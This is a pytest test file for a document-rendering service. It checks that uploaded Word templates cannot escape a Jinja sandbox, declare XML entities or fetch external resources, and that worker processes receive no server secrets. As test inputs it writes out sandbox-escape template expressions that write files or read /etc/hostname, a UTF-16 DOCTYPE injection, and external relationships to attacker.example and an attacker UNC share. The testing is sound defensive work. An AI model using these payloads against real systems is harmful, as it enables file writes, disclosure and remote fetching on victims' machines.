"""A province's Word template cannot reach past the data it prints: the chart's picture docxtpl hands it is an
object with a way back to the whole document (``image.tpl``, whose ``save`` writes any file), so in the sandbox
no attribute of any object but plain data and Jinja's own is readable; and the sample an upload is checked with
holds a chart, so a template that breaks on one is refused before it is used. Nor can the file itself reach out:
no part in any encoding or under any name declares a DTD, and no relationship but a hyperlink points outside
the file (a remote template, a linked picture or object would be fetched by every Word opening the document)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError

from isotrail.domain.documents.blocks import bar_chart
from isotrail.domain.documents.document import DocumentKind
from isotrail.services.documents.default_templates import TEMPLATE
from isotrail.services.documents.docx import render_docx
from isotrail.services.documents.rendering import DocumentFormat
from isotrail.services.documents.samples import generic, sample
from isotrail.services.documents.sandbox_worker import plain_environment
from isotrail.services.documents.template_check import check
from isotrail.services.documents.template_files import safe_word_file
from isotrail.services.documents.upload_errors import TemplateRejectedError
from tests.documents_files import paragraph, rewritten, with_body

CHART = bar_chart("Điểm yếu theo điều khoản", [("8.5.1", 3), ("9.1.3", 2)], "cơ quan")


def replaced(name: str, change: Callable[[str], bytes], *, name_as: str | None = None) -> bytes:
    """The repo's template with part ``name`` made ``change(text)`` (stored as ``name_as`` if given)."""
    out = io.BytesIO()
    with zipfile.ZipFile(TEMPLATE) as given, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for entry in given.infolist():
            data = given.read(entry)
            if entry.filename == name:
                made.writestr(name_as or name, change(data.decode()))
            else:
                made.writestr(entry.filename, data)
    return out.getvalue()


def _on_charts(expression: str) -> bytes:
    return with_body(paragraph("{% for b in body.blocks %}{% if b.type == 'chart' %}" + expression
                               + "{% endif %}{% endfor %}"))


def test_the_chart_s_picture_gives_no_way_to_the_file_system(tmp_path: Path) -> None:
    written = tmp_path / "written.docx"
    report = generic(DocumentKind.RESULTS_REPORT)
    report = replace(report, body={"blocks": [*report.body["blocks"], CHART]})
    for reach in (f"{{{{ b.image.tpl.docx.save('{written}') }}}}", f"{{{{ b.image.tpl.save('{written}') }}}}",
                  "{{ b.image.tpl.new_subdoc('/etc/hostname') }}"):
        with pytest.raises(SecurityError):
            render_docx(_on_charts(reach), report.data(), sandboxed=True)
    assert not written.exists()
    assert render_docx(_on_charts("{{ b.title }}: {{ b.image }}"), report.data(), sandboxed=True)  # still printed


def test_an_upload_is_checked_on_a_chart_too() -> None:
    assert any(block["type"] == "chart" for block in sample(DocumentKind.RESULTS_REPORT).data()["body"]["blocks"])
    assert "UndefinedError" in (check(DocumentKind.RESULTS_REPORT, DocumentFormat.DOCX, _on_charts("{{ b.nosuch }}"))
                                or "")
    assert "SecurityError" in (check(DocumentKind.RESULTS_REPORT, DocumentFormat.DOCX,
                                     _on_charts("{{ b.image.tpl }}")) or "")


def _utf16_with_entity(xml: str) -> str:
    body = xml.split("?>", 1)[1]
    return '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY e "x">]>' + body


def test_a_word_file_in_utf16_or_under_another_name_declares_no_entity_either() -> None:
    utf16 = replaced("word/document.xml", lambda xml: _utf16_with_entity(xml).encode("utf-16"))
    with pytest.raises(TemplateRejectedError) as refused:
        safe_word_file(utf16)
    assert "DOCTYPE" in refused.value.reason_en
    renamed = replaced("word/styles.xml", lambda xml: _utf16_with_entity(xml).encode(), name_as="word/styles.bin")
    with pytest.raises(TemplateRejectedError):
        safe_word_file(renamed)


EXTERNAL = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}"'
            ' Target="{target}" TargetMode="External"/></Relationships>')


def test_a_word_file_fetching_from_outside_is_refused_and_a_hyperlink_is_kept() -> None:
    for kind, target in (("attachedTemplate", "http://attacker.example/t.dotm"), ("image", "file:///etc/hostname"),
                         ("oleObject", "\\\\attacker\\share\\x.bin")):
        fetching = rewritten({"word/_rels/document.xml.rels": lambda xml, k=kind, t=target: xml.replace(
            "</Relationships>", EXTERNAL.format(type=k, target=t))})
        with pytest.raises(TemplateRejectedError) as refused:
            safe_word_file(fetching)
        assert "External" in refused.value.reason_en and kind in refused.value.reason_en
    linked = rewritten({"word/_rels/document.xml.rels": lambda xml: xml.replace(
        "</Relationships>", EXTERNAL.format(type="hyperlink", target="https://skhcn.soctrang.gov.vn/"))})
    safe_word_file(linked)


def test_a_template_s_processes_keep_none_of_the_server_s_secrets() -> None:
    server = {"PATH": "/usr/bin", "LANG": "C.UTF-8", "ISOTRAIL_AUTH__SECRET": "s" * 32, "PGPASSWORD": "p",
              "ISOTRAIL_DATABASE__URL": "postgresql://isotrail:p@db/isotrail", "ISOTRAIL_DOCUMENTS__LINK_SECRET": "k"}
    assert plain_environment(server) == {"PATH": "/usr/bin", "LANG": "C.UTF-8"}
